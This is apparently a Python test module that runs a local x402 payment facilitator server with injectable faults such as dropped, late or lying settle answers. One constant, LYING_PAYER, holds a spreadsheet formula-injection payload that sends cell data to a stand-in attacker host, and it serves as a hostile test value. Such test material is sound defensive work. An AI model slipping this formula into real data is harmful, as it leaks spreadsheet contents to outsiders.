"""A local x402 v2 facilitator HTTP server built from the official ``x402`` SDK.

    python -m x402srv.testing.facilitator_app --rpc-url URL --network eip155:31337 --port P
    python -m x402srv.testing.facilitator_app --chain eip155:31337=URL --chain eip155:31338=URL2 ...
    (the signer key comes from the environment variable X402SRV_FACILITATOR_KEY)

With several ``--chain``s it settles on each, with a signer on that chain's RPC
(the same key), as one facilitator serving several networks does: one SDK
facilitator per chain, picked by the requirement's network (registered on one
facilitator, the SDK turns a single ``eip155`` network into ``eip155:*`` and
the first registration would serve every chain with its own RPC). A payment
for a network it does not serve is answered 400 ``invalid_network``, as a
hosted facilitator answers it (the SDK raises there).

``x402FacilitatorSync`` + ``register_exact_evm_facilitator`` + ``FacilitatorWeb3Signer``
do all the work; this module only speaks HTTP (``GET /supported``, ``POST
/verify``, ``POST /settle``). The SDK's sync facilitator blocks, so requests are
served on threads (stdlib ``ThreadingHTTPServer``), never on an event loop.

One change to the SDK's signer, for a local chain: it waits for a settlement's
receipt with web3's default 100 ms between polls, and anvil mines a moment
after it accepts the transaction, so nearly every settle slept 100 ms after the
transfer was already final. Here it polls every 5 ms (``RECEIPT_POLL_SECONDS``).
Everything that uses this facilitator (x402srv's facilitator strategy and the
official middleware in ``bench``) gets the same one. ``--receipt-poll 0.1`` restores
the SDK's own pace (what a facilitator run as the SDK ships it does; ``bench`` measures
both).

``--fault`` turns it into the faulty facilitator the fault tests need, doing the
real work first where a real facilitator could fail after it:

    settle-drop        /settle drops the connection without an answer (outcome unknown)
    settle-hang        /settle never answers and never settles
    settle-late        /settle answers nothing for --delay seconds (past the caller's
                       timeout), then really settles on-chain
    settle-answer-late /settle really settles on-chain at once, then answers only
                       --delay seconds later (a facilitator slow to see its receipt)
    settle-500-after   /settle really settles on-chain, then answers HTTP 500
    settle-400-after   /settle really settles on-chain, then answers HTTP 400 with a
                       body that names the transaction
    settle-lie         /settle claims success with a made-up transaction, settles nothing
    settle-payer-lie   /settle really settles on-chain, then names someone else as the
                       payer (a spreadsheet formula, ``LYING_PAYER``): the SDK always
                       reports the signer, so only the answer is altered
    settle-500         /settle answers HTTP 500 at once: nothing verified, nothing broadcast
    settle-gate        /settle writes <gate>/arrived-<n>, waits for <gate>/go-<n> to exist,
                       then really settles and writes <gate>/done-<n> (``--gate DIR``): a
                       test decides when it settles, without any timing

``--record FILE`` appends every POST body it receives to FILE (JSON lines), so a
test can check what a third party gets to see.
"""

from __future__ import annotations

import argparse
import itertools
import json
import os
import secrets
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

__all__ = ["FAULTS", "LYING_PAYER", "RECEIPT_POLL_SECONDS", "main"]

FAULTS = [
    "settle-drop",
    "settle-hang",
    "settle-late",
    "settle-answer-late",
    "settle-500-after",
    "settle-400-after",
    "settle-lie",
    "settle-payer-lie",
    "settle-500",
    "settle-gate",
]

#: Seconds between receipt polls while a settle waits for its transaction.
RECEIPT_POLL_SECONDS = 0.005
#: The payer ``settle-payer-lie`` reports: what a spreadsheet would run as a formula.
LYING_PAYER = '=HYPERLINK("https://evil.example/?leak="&A1,"0xBuyer")'


def _build(chains: list[tuple[str, str]], key: str, poll: float) -> dict[str, Any]:
    from eth_typing import HexStr
    from x402 import x402FacilitatorSync
    from x402.mechanisms.evm import FacilitatorWeb3Signer
    from x402.mechanisms.evm.constants import TX_STATUS_SUCCESS
    from x402.mechanisms.evm.exact import register_exact_evm_facilitator
    from x402.mechanisms.evm.types import TransactionReceipt

    class LocalChainSigner(FacilitatorWeb3Signer):
        """The SDK's signer; only the receipt wait polls faster (same result)."""

        def wait_for_transaction_receipt(self, tx_hash: str) -> Any:
            if not tx_hash.startswith("0x"):
                tx_hash = "0x" + tx_hash
            receipt = self._w3.eth.wait_for_transaction_receipt(
                HexStr(tx_hash),
                timeout=self._confirmation_timeout_seconds,
                poll_latency=poll,
            )
            return TransactionReceipt(
                status=TX_STATUS_SUCCESS if receipt["status"] == 1 else 0,
                block_number=receipt["blockNumber"],
                tx_hash=tx_hash,
                logs=list(receipt.get("logs") or []),
            )

    facilitators = {}
    for network, rpc_url in chains:
        facilitator = x402FacilitatorSync()
        signer = LocalChainSigner(private_key=key, rpc_url=rpc_url)
        register_exact_evm_facilitator(facilitator, signer, networks=network)
        facilitators[network] = facilitator
    return facilitators


def _handler(
    facilitators: dict[str, Any],
    fault: str | None,
    delay: float,
    record: str | None,
    gate: str | None,
) -> type[BaseHTTPRequestHandler]:
    from x402.schemas import PaymentPayload, PaymentRequirements
    from x402.schemas.errors import SchemeNotFoundError

    recording = threading.Lock()
    arrivals = itertools.count(1)

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        # Headers and body leave in two writes; with Nagle's algorithm on, the body
        # of every answer on a kept-alive connection waited for the client's
        # delayed ACK (~40 ms).
        disable_nagle_algorithm = True

        def log_message(self, format: str, *args: Any) -> None:
            return  # keep test output quiet; payloads must not be logged anyway

        def _answer(self, status: int, body: Any) -> None:
            raw = json.dumps(body).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(raw)))
            self.end_headers()
            self.wfile.write(raw)

        def do_GET(self) -> None:
            if not self.path.rstrip("/").endswith("/supported"):
                self._answer(404, {"error": "not found"})
                return
            kinds: list[Any] = []
            answer: dict[str, Any] = {}
            for facilitator in facilitators.values():
                answer = facilitator.get_supported().model_dump(by_alias=True, exclude_none=True)
                kinds += [k for k in answer.get("kinds", []) if k not in kinds]
            self._answer(200, {**answer, "kinds": kinds})

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            raw = self.rfile.read(length)
            if record:
                with recording, open(record, "ab") as out:
                    out.write(raw.replace(b"\n", b" ") + b"\n")
            try:
                body = json.loads(raw)
                payload = PaymentPayload.model_validate(body["paymentPayload"])
                requirements = PaymentRequirements.model_validate(body["paymentRequirements"])
            except (ValueError, KeyError, TypeError):
                self._answer(400, {"error": "invalid request"})
                return
            path = "/" + self.path.rstrip("/").rsplit("/", 1)[-1]  # any mount prefix
            try:
                facilitator = facilitators.get(requirements.network)
                if facilitator is None:
                    raise SchemeNotFoundError(requirements.scheme, requirements.network)
                self._serve(facilitator, path, payload, requirements)
            except SchemeNotFoundError:
                answer = {"success": False, "isValid": False, "transaction": ""}
                answer |= {"errorReason": "invalid_network", "invalidReason": "invalid_network"}
                self._answer(400, answer)

        def _serve(self, facilitator: Any, path: str, payload: Any, requirements: Any) -> None:
            if path == "/verify":
                result = facilitator.verify(payload, requirements)
            elif path == "/settle":
                if fault == "settle-500":
                    self._answer(500, {"error": "internal error"})
                    return
                if fault == "settle-gate":
                    assert gate is not None
                    result = _gated(Path(gate), next(arrivals), facilitator, payload, requirements)
                    self._answer(200, result.model_dump(by_alias=True, exclude_none=True))
                    return
                if fault == "settle-drop":
                    self.close_connection = True
                    return
                if fault == "settle-hang":
                    time.sleep(3600)
                    return
                if fault == "settle-late":
                    time.sleep(delay)
                if fault == "settle-lie":
                    self._answer(
                        200,
                        {
                            "success": True,
                            "transaction": "0x" + secrets.token_hex(32),
                            "network": requirements.network,
                            "payer": payload.payload["authorization"]["from"],
                        },
                    )
                    return
                result = facilitator.settle(payload, requirements)
                if fault == "settle-answer-late":
                    time.sleep(delay)
                if fault == "settle-500-after":
                    self._answer(500, {"error": "internal error"})
                    return
                if fault == "settle-payer-lie":
                    answer = result.model_dump(by_alias=True, exclude_none=True)
                    self._answer(200, {**answer, "payer": LYING_PAYER})
                    return
                if fault == "settle-400-after":
                    answer = result.model_dump(by_alias=True, exclude_none=True)
                    self._answer(400, {**answer, "success": False, "errorReason": "bad_request"})
                    return
            else:
                self._answer(404, {"error": "not found"})
                return
            self._answer(200, result.model_dump(by_alias=True, exclude_none=True))

    return Handler


def _gated(gate: Path, n: int, facilitator: Any, payload: Any, requirements: Any) -> Any:
    """Settle when the test says so: it creates ``go-<n>`` after seeing ``arrived-<n>``."""
    (gate / f"arrived-{n}").touch()
    while not (gate / f"go-{n}").exists():
        time.sleep(0.01)
    try:
        return facilitator.settle(payload, requirements)
    finally:
        (gate / f"done-{n}").touch()


class _Server(ThreadingHTTPServer):
    # The stdlib's listen backlog of 5 resets connections when many buyers pay at once.
    request_queue_size = 256


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="x402srv.testing.facilitator_app")
    parser.add_argument("--rpc-url")
    parser.add_argument("--network")
    parser.add_argument(
        "--chain", action="append", default=[], metavar="NETWORK=RPC_URL", help="repeatable"
    )
    parser.add_argument("--gate", default=None, help="settle-gate: the directory of its files")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--fault", choices=FAULTS, default=None)
    parser.add_argument("--delay", type=float, default=3.0)
    parser.add_argument(
        "--receipt-poll",
        type=float,
        default=RECEIPT_POLL_SECONDS,
        help="seconds between receipt polls (the SDK's own: 0.1)",
    )
    parser.add_argument("--record", default=None, help="append every POST body to this file")
    args = parser.parse_args(argv)
    key = os.environ["X402SRV_FACILITATOR_KEY"]
    chains = [tuple(chain.split("=", 1)) for chain in args.chain]
    if args.network and args.rpc_url:
        chains.insert(0, (args.network, args.rpc_url))
    if not chains:
        parser.error("give --network and --rpc-url, or --chain NETWORK=RPC_URL")
    facilitators = _build([(network, url) for network, url in chains], key, args.receipt_poll)
    handler = _handler(facilitators, args.fault, args.delay, args.record, args.gate)
    server = _Server(("127.0.0.1", args.port), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    thread.join()


if __name__ == "__main__":
    main()
